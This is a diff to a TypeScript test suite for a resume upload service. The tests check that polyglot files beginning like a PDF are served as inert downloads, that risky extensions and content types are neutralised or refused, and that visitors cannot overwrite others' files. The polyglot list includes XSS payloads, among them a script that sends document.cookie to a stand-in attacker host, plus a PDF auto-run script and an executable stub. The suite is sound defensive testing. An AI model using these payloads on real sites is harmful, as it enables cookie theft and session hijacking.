@@ -8,20 +8,17 @@ import { bucket, newPath, pdfFile, server, upload } from '../testing/resumes.ts'
 const script = '<script>fetch("https://evil.example/"+document.cookie)</script>'
 const polyglots: [string, string][] = [
   ['HTML', `%PDF-1.7\n<!doctype html><html><body>${script}</body></html>`],
-  ['HTML before anything else a reader sees', `%PDF-<html><title>Factura</title>${script}`],
+  ['HTML right after the first bytes', `%PDF-<html><title>Factura</title>${script}`],
   ['SVG', `%PDF-1.7\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`],
   ['JavaScript', '%PDF-1.7\n*/=1;alert(document.domain)//'],
-  [
-    'a PDF with a script of its own',
-    '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj',
-  ],
+  ['a script for PDF readers', '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'],
   ['a ZIP with a program', `%PDF-1.7\nPK\u0003\u0004evil.exe`],
 ]
 
 const read = (url: string, headers: Record<string, string> = {}) => fetch(url, { headers })
 
-describe.each(polyglots)('%s', (_, content) => {
-  it('comes back byte by byte, as a download of a PDF in which nothing runs', async () => {
+describe.each(polyglots)('an upload that begins like a PDF and contains %s', (_, content) => {
+  it('is downloaded unchanged, as a PDF in which nothing runs', async () => {
     const { url } = await upload(Buffer.from(content))
     const asks = [url, `${url}?download=factura.html`, `${url}?download=`, `${url}?format=html`]
     for (const ask of asks)
@@ -42,7 +39,7 @@ describe.each(polyglots)('%s', (_, content) => {
       }
   })
 
-  it('stays so in parts, where a part could begin with the HTML', async () => {
+  it('is a PDF in parts too, where a part could begin with the HTML', async () => {
     const { url } = await upload(Buffer.from(content))
     const answer = await read(url, { range: 'bytes=9-' })
     expect(answer.status).toBe(206)
@@ -52,12 +49,15 @@ describe.each(polyglots)('%s', (_, content) => {
   })
 })
 
-describe('the name or the type of a file', () => {
-  it.each(['html', 'svg', 'exe', 'hta', 'js'])('.%s is saved as .pdf', async (extension) => {
-    const { url } = await upload(Buffer.from('%PDF-1.7'), newPath().replace(/pdf$/, extension))
-    const disposition = (await read(url)).headers.get('content-disposition')
-    expect(disposition).toMatch(new RegExp(`^attachment; filename="[\\w-]+\\.${extension}\\.pdf"; `))
-  })
+describe('an upload', () => {
+  it.each(['html', 'svg', 'exe', 'hta', 'js'])(
+    'to a name with .%s is downloaded as .pdf',
+    async (extension) => {
+      const { url } = await upload(Buffer.from('%PDF-1.7'), newPath().replace(/pdf$/, extension))
+      const disposition = (await read(url)).headers.get('content-disposition')
+      expect(disposition).toMatch(new RegExp(`^attachment; filename="[\\w-]+\\.${extension}\\.pdf"; `))
+    },
+  )
 
   it.each([
     'text/html',
@@ -68,7 +68,7 @@ describe('the name or the type of a file', () => {
     'text/html; x=application/pdf',
     'application/x-pdf',
     '*/*',
-  ])('%s is refused', async (type) => {
+  ])('of the type «%s» is refused', async (type) => {
     const sent = await bucket().upload(newPath(), pdfFile(Buffer.from('%PDF-1.7'), type))
     expect(sent.error).toMatchObject({ statusCode: '415' })
     const headers = { apikey: server.anonKey, 'content-type': type }
@@ -77,12 +77,12 @@ describe('the name or the type of a file', () => {
       headers,
       body: '%PDF-1.7',
     })
-    // Parameters of a type are cut off, and what is before them is refused.
+    // The parameters of a type are cut off, and the rest is refused.
     expect((await raw.json()).statusCode).toBe('415')
   })
 })
 
-it('nobody replaces the resume of another', async () => {
+it('a visitor cannot replace, move or remove the resume of another', async () => {
   const { path, url } = await upload(Buffer.from('%PDF-1.7 the first'))
   for (const upsert of [false, true]) {
     const { error } = await bucket().upload(path, pdfFile(Buffer.from('%PDF-1.7 the second')), { upsert })
